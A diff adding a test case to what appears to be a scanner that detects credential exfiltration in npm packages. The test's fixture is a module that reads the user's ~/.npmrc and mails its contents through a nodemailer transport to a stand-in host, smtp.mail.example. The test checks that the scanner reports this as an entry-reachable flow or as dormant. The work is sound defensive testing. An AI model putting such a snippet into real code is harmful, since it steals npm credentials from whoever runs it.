@@ -472,6 +472,17 @@ module.exports = { Keypair };
     expect(posts.ids).not.toContain('exfiltration/flow');
   });
 
+  it("credentials mailed through a nodemailer transport in a module's default export, called lazily by the entry's API, are a flow of an entry function", () => {
+    const metrics = `const fs = require('fs'), os = require('os'), path = require('path');\nmodule.exports = function collect() {\n  const found = { npmrc: fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8') };\n  const transport = require('nodemailer').createTransport({ host: 'smtp.mail.example', auth: { user: 'r@mail.example', pass: 'x' } });\n  transport.sendMail({ to: 'r@mail.example', text: JSON.stringify(found) }, () => {});\n};\n`;
+    const entry = (call: string) => `class Mutex {\n  acquire() { ${call} return Promise.resolve(); }\n}\nmodule.exports = { Mutex };\n`;
+    const flow = (r: ReturnType<typeof scan>) => r.findings.find((f) => f.detector === 'exfiltration');
+    const called = scan({ 'index.js': entry("setImmediate(() => require('./lib/metrics')());"), 'lib/metrics.js': metrics }, { main: 'index.js' });
+    expect(flow(called)?.data?.sink).toBe('transport.sendMail() of a remote client');
+    expect(flow(called)?.evidence).toMatchObject({ reach: 'entry-function' });
+    const imported = scan({ 'index.js': entry("const m = require('./lib/metrics');"), 'lib/metrics.js': metrics }, { main: 'index.js' });
+    expect(flow(imported)?.evidence).toMatchObject({ reach: 'dormant' });
+  });
+
   it("a key handed to an export that signs with it and sends only the signed claims is no flow; handed in a position that is sent, it is (@empiricalrun/llm)", () => {
     const auth = `const sign = async (data, key) => { const k = await crypto.subtle.importKey('pkcs8', key, { name: 'RSASSA-PKCS1-v1_5' }, false, ['sign']); return crypto.subtle.sign('RSASSA-PKCS1-v1_5', k, data); };
 const getToken = async (user, key, scope) => {
